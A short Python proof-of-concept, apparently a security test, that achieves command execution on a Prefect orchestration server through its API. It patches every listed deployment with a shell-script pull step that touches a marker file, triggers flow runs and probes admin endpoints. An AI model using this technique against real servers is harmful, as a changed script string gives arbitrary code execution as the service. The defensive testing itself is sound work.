"""The attack: a command run as the service, through Prefect's API, with nothing but the standard library."""

import encodings.idna  # noqa: F401 - loaded while we are ourselves: another user may not read Python's own files
import json
import urllib.error
import urllib.request

STEP = "prefect.deployments.steps.run_shell_script"


def pull_steps(marker: str) -> dict[str, object]:
    """Return what is laid on a deployment: its code is then fetched anew for each run, by a command."""
    return {"entrypoint": "anfall.py:anfall", "pull_steps": [{STEP: {"script": f"touch {marker}"}}]}


def call(method: str, url: str, body: object = None) -> tuple[int, bytes]:
    """Return a call's status and answer."""
    asked = urllib.request.Request(url, json.dumps(body).encode(), {"Content-Type": "application/json"}, method=method)
    try:
        with urllib.request.build_opener(urllib.request.ProxyHandler({})).open(asked, timeout=60) as answer:
            return answer.status, answer.read()
    except urllib.error.HTTPError as refused:
        return refused.code, refused.read()


def attack(api: str, marker: str) -> list[int]:
    """Give each deployment a step that makes the file ``marker``, and start a run of it; return the calls' statuses."""
    listed, found = call("POST", f"{api}/deployments/filter", {})
    deployments = [each["id"] for each in json.loads(found)] if listed == 200 else ["0" * 32]
    told = [listed]
    for deployment in deployments:
        told.append(call("PATCH", f"{api}/deployments/{deployment}", pull_steps(marker))[0])
        told.append(
            call("POST", f"{api}/deployments/{deployment}/create_flow_run", {"enforce_parameter_schema": False})[0]
        )
    told.append(call("POST", f"{api}/flows/", {"name": "annan"})[0])
    told += [call("GET", f"{api}/{path}")[0] for path in ("csrf-token?client=x", "admin/settings", "docs")]
    return told
